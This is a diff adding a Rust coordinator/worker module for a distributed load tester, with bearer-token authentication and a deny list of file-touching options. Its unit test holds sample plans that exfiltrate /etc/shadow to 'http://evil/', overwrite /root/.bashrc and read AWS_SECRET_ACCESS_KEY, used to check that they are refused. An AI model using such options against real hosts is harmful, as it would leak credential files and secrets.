@@ -0,0 +1,374 @@
+use std::{
+    error::Error,
+    ffi::OsString,
+    net::SocketAddr,
+    process::Stdio,
+    sync::{
+        atomic::{AtomicBool, Ordering},
+        Arc,
+    },
+    time::{Duration, SystemTime},
+};
+
+use futures::future::join_all;
+use reqwest::header::{AUTHORIZATION, CONTENT_TYPE};
+use serde::{Deserialize, Serialize};
+use serde_json::json;
+use tokio::{
+    io::{AsyncReadExt, AsyncWriteExt},
+    net::{TcpListener, TcpStream},
+    process::Command,
+};
+use tracing::{debug, info, warn};
+
+use crate::{checkpoint::Checkpoint, fleet};
+
+/// How far in the future the coordinator schedules the synchronized start
+const LEAD_TIME: Duration = Duration::from_secs(5);
+
+/// Largest test plan a worker accepts
+const MAX_PLAN_SIZE: usize = 1024 * 1024;
+
+/// Options of `run` that only concern the coordinator, with whether they take a value
+const COORDINATOR_OPTIONS: [(&str, bool); 3] = [
+    ("--workers", true),
+    ("--workers-token", true),
+    ("--config", true),
+];
+
+/// Options of `run` that read or write files, or the environment, on the host running the
+/// test. A worker doesn't take them from a coordinator, which could otherwise overwrite its
+/// files or send them to a URL of its choosing.
+const FILE_OPTIONS: [&str; 25] = [
+    "--config",
+    "--urls-file",
+    "--scenario",
+    "--har",
+    "--from-curl",
+    "--secret",
+    "--save-extracted",
+    "--data",
+    "--body-file",
+    "--query",
+    "--variables",
+    "--script",
+    "--cacert",
+    "--cert",
+    "--key",
+    "--events-file",
+    "--log-file",
+    "--checkpoint",
+    "--resume",
+    "--samples-file",
+    "--unix-socket",
+    "--stop-when-file",
+    "--output-file",
+    "--raw-out",
+    "--report",
+];
+
+/// Test a coordinator sends to its workers
+#[derive(Serialize, Deserialize)]
+struct Plan {
+    /// Options for `run`
+    args: Vec<String>,
+}
+
+/// Options of the command line to pass on to every worker: `run` options without the
+/// coordinator's own, --config already expanded into the options it holds
+pub fn worker_args(args: &[OsString]) -> Vec<String> {
+    let mut forwarded = vec![];
+    let mut args = args
+        .iter()
+        .skip(1)
+        .map(|arg| arg.to_string_lossy().into_owned())
+        .skip_while(|arg| arg == "run");
+    while let Some(arg) = args.next() {
+        let (name, inline_value) = match arg.split_once('=') {
+            Some((name, _)) => (name, true),
+            None => (arg.as_str(), false),
+        };
+        match COORDINATOR_OPTIONS
+            .iter()
+            .find(|(option, _)| *option == name)
+        {
+            Some((_, takes_value)) => {
+                if *takes_value && !inline_value {
+                    args.next();
+                }
+            }
+            None => forwarded.push(arg),
+        }
+    }
+    forwarded
+}
+
+/// Refuses a test whose options would have a worker touch its own files
+fn check_plan(args: &[String]) -> Result<(), String> {
+    match args.iter().find(|arg| {
+        let name = arg.split_once('=').map_or(arg.as_str(), |(name, _)| name);
+        FILE_OPTIONS.contains(&name)
+    }) {
+        Some(arg) => Err(format!(
+            "{} reads or writes files on the worker, which workers don't accept",
+            arg.split_once('=').map_or(arg.as_str(), |(name, _)| name)
+        )),
+        None => Ok(()),
+    }
+}
+
+/// Sends the test to every worker with a shared --start-at, waits for their results and
+/// prints one report
+pub async fn coordinate(
+    workers: Vec<String>,
+    token: Option<String>,
+    args: Vec<String>,
+) -> Result<(), Box<dyn Error>> {
+    check_plan(&args)?;
+    let start_at = SystemTime::now() + LEAD_TIME;
+    info!(
+        "running on {} workers, starting at {}",
+        workers.len(),
+        humantime::format_rfc3339_seconds(start_at)
+    );
+    let mut args = args;
+    args.extend([
+        "--start-at".to_string(),
+        humantime::format_rfc3339_seconds(start_at).to_string(),
+    ]);
+    let plan = Plan { args };
+    let client = reqwest::Client::new();
+    let runs = workers
+        .iter()
+        .map(|worker| run_on(&client, worker, token.as_deref(), &plan));
+    let results = join_all(runs).await;
+    fleet::print_combined(&workers, results)
+}
+
+async fn run_on(
+    client: &reqwest::Client,
+    worker: &str,
+    token: Option<&str>,
+    plan: &Plan,
+) -> Result<Checkpoint, Box<dyn Error>> {
+    let base = if worker.contains("://") {
+        worker.trim_end_matches('/').to_string()
+    } else {
+        format!("http://{}", worker)
+    };
+    info!(worker, "sending test to worker");
+    let mut request = client
+        .post(format!("{}/run", base))
+        .header(CONTENT_TYPE, "application/json")
+        .body(serde_json::to_string(plan)?);
+    if let Some(token) = token {
+        request = request.header(AUTHORIZATION, format!("Bearer {}", token));
+    }
+    let response = request.send().await?;
+    let status = response.status();
+    let body = response.bytes().await?;
+    if !status.is_success() {
+        let error = serde_json::from_slice::<serde_json::Value>(&body)
+            .ok()
+            .and_then(|body| body["error"].as_str().map(str::to_string))
+            .unwrap_or_else(|| String::from_utf8_lossy(&body).into_owned());
+        return Err(format!("{} answered {}: {}", worker, status, error).into());
+    }
+    Ok(serde_json::from_slice(&body)?)
+}
+
+/// Accepts tests from a coordinator on `addr` and runs them one at a time, answering each
+/// with the checkpoint of its results
+pub async fn serve(addr: SocketAddr, token: Option<String>) -> Result<(), Box<dyn Error>> {
+    if token.is_none() && !addr.ip().is_loopback() {
+        return Err(format!(
+            "refusing to accept tests on {} without --token, anyone who can reach it could run them",
+            addr
+        )
+        .into());
+    }
+    let listener = TcpListener::bind(addr).await?;
+    info!("worker listening on http://{}", listener.local_addr()?);
+    let token = Arc::new(token);
+    let busy = Arc::new(AtomicBool::new(false));
+    loop {
+        let (stream, peer) = listener.accept().await?;
+        let token = token.clone();
+        let busy = busy.clone();
+        tokio::spawn(async move {
+            if let Err(e) = handle(stream, peer, token.as_deref(), &busy).await {
+                debug!(%peer, "worker connection failed: {}", e);
+            }
+        });
+    }
+}
+
+async fn handle(
+    mut stream: TcpStream,
+    peer: SocketAddr,
+    token: Option<&str>,
+    busy: &AtomicBool,
+) -> std::io::Result<()> {
+    let (head, body) = read_request(&mut stream).await?;
+    let mut lines = head.lines();
+    let mut parts = lines.next().unwrap_or("").split_whitespace();
+    let (method, path) = (parts.next().unwrap_or(""), parts.next().unwrap_or(""));
+    let authorized = token.is_none_or(|token| {
+        let expected = format!("Bearer {}", token);
+        lines.any(|line| {
+            line.split_once(':').is_some_and(|(name, value)| {
+                name.eq_ignore_ascii_case("authorization")
+                    && constant_time_eq(value.trim().as_bytes(), expected.as_bytes())
+            })
+        })
+    });
+
+    let (status, body) = match (method, path) {
+        _ if !authorized => (
+            "401 Unauthorized",
+            json!({ "error": "missing or wrong token" }).to_string(),
+        ),
+        ("GET", "/status") => (
+            "200 OK",
+            json!({ "busy": busy.load(Ordering::Relaxed) }).to_string(),
+        ),
+        ("POST", "/run") => match serde_json::from_slice::<Plan>(&body)
+            .map_err(|e| format!("invalid test plan: {}", e))
+            .and_then(|plan| check_plan(&plan.args).map(|()| plan))
+        {
+            Ok(plan) => {
+                if busy.swap(true, Ordering::AcqRel) {
+                    (
+                        "409 Conflict",
+                        json!({ "error": "already running a test" }).to_string(),
+                    )
+                } else {
+                    info!(%peer, "running test from coordinator");
+                    let outcome = run_plan(plan).await;
+                    busy.store(false, Ordering::Release);
+                    match outcome {
+                        Ok(checkpoint) => ("200 OK", checkpoint),
+                        Err(e) => {
+                            warn!(%peer, "test failed: {}", e);
+                            (
+                                "500 Internal Server Error",
+                                json!({ "error": e.to_string() }).to_string(),
+                            )
+                        }
+                    }
+                }
+            }
+            Err(e) => ("400 Bad Request", json!({ "error": e }).to_string()),
+        },
+        _ => ("404 Not Found", json!({ "error": "not found" }).to_string()),
+    };
+
+    let response = format!(
+        "HTTP/1.1 {}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{}",
+        status,
+        body.len(),
+        body
+    );
+    stream.write_all(response.as_bytes()).await?;
+    stream.shutdown().await
+}
+
+/// Compares without returning early, so how long a wrong token takes to refuse doesn't tell
+/// how much of it was right
+fn constant_time_eq(a: &[u8], b: &[u8]) -> bool {
+    a.len() == b.len() && a.iter().zip(b).fold(0, |diff, (a, b)| diff | (a ^ b)) == 0
+}
+
+/// Reads the request head and as much body as its Content-Length announces
+async fn read_request(stream: &mut TcpStream) -> std::io::Result<(String, Vec<u8>)> {
+    let mut buffer = vec![];
+    let mut chunk = [0; 8192];
+    let end = loop {
+        if let Some(end) = buffer.windows(4).position(|w| w == b"\r\n\r\n") {
+            break end;
+        }
+        let read = stream.read(&mut chunk).await?;
+        if read == 0 || buffer.len() > MAX_PLAN_SIZE {
+            return Err(std::io::ErrorKind::UnexpectedEof.into());
+        }
+        buffer.extend_from_slice(&chunk[..read]);
+    };
+    let head = String::from_utf8_lossy(&buffer[..end]).into_owned();
+    let length = head
+        .lines()
+        .filter_map(|line| line.split_once(':'))
+        .find(|(name, _)| name.eq_ignore_ascii_case("content-length"))
+        .and_then(|(_, value)| value.trim().parse::<usize>().ok())
+        .unwrap_or(0)
+        .min(MAX_PLAN_SIZE);
+    let mut body = buffer.split_off(end + 4);
+    while body.len() < length {
+        let read = stream.read(&mut chunk).await?;
+        if read == 0 {
+            break;
+        }
+        body.extend_from_slice(&chunk[..read]);
+    }
+    Ok((head, body))
+}
+
+/// Runs the test in a child process of this binary, like fleet workers do over SSH, and
+/// hands back the checkpoint it wrote
+async fn run_plan(plan: Plan) -> Result<String, Box<dyn Error>> {
+    let checkpoint = std::env::temp_dir().join(format!(
+        "load-tester-worker-{}-{:08x}.json",
+        std::process::id(),
+        rand::random::<u32>()
+    ));
+    let output = Command::new(std::env::current_exe()?)
+        .arg("run")
+        .args(&plan.args)
+        .arg("--checkpoint")
+        .arg(&checkpoint)
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped())
+        .output()
+        .await?;
+    // A test that missed a threshold still wrote its results
+    let outcome = match Checkpoint::read(&checkpoint) {
+        Ok(written) => Ok(serde_json::to_string(&written)?),
+        Err(_) => Err(format!(
+            "the test failed: {}",
+            String::from_utf8_lossy(&output.stderr).trim()
+        )
+        .into()),
+    };
+    let _ = std::fs::remove_file(&checkpoint);
+    outcome
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn refuses_plans_that_touch_files() {
+        let args = |args: &[&str]| args.iter().map(|arg| arg.to_string()).collect::<Vec<_>>();
+        assert!(check_plan(&args(&[
+            "--url",
+            "http://api/",
+            "-c",
+            "50",
+            "--output",
+            "json"
+        ]))
+        .is_ok());
+        for plan in [
+            args(&["--url", "http://evil/", "--body-file", "/etc/shadow"]),
+            args(&["--url", "http://api/", "--report=/root/.bashrc"]),
+            args(&["--secret", "TOKEN=env:AWS_SECRET_ACCESS_KEY"]),
+        ] {
+            assert!(check_plan(&plan).is_err(), "{:?}", plan);
+        }
+
+        assert!(constant_time_eq(b"Bearer abc", b"Bearer abc"));
+        assert!(!constant_time_eq(b"Bearer abc", b"Bearer abd"));
+        assert!(!constant_time_eq(b"Bearer abc", b"Bearer ab"));
+    }
+}